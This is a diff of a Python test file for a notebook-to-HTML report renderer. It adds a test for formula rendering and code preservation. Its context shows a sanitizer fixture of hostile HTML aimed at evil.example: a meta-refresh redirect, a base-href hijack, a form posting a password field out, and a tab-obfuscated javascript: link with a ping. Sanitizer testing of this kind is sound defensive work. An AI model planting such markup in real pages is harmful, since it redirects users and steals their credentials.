@@ -120,6 +120,14 @@ def test_report_asks_for_nothing_from_any_network():
     assert 'alt="Loss falls"' in text
 
 
+def test_formulas_are_drawn_without_a_script_and_code_stays():
+    markdown = "# T\n\nof $h$ and `a $x$ b`, for $5 or $6:\n\n$$N < 12\\, l\\, h^2$$\n\nbroken: $\\left( x$"
+    text = report(notebook(markdown=markdown), TWIN)
+    assert text.count("<math") == 2 and 'display="block"' in text
+    assert "<code>a $x$ b</code>" in text and "$5 or $6" in text and "$\\left( x$" in text
+    assert "<msup><mi>h</mi><mn>2</mn></msup>" in text
+
+
 LEADING_AWAY = """<meta http-equiv=refresh content='0; url=https://evil.example'><base href="https://evil.example/">
 <form action="https://evil.example"><input name=password><button formaction="https://evil.example">send</button>
 </form><a href="java&#9;script:alert(1)" ping="https://evil.example" target=_top>click</a>
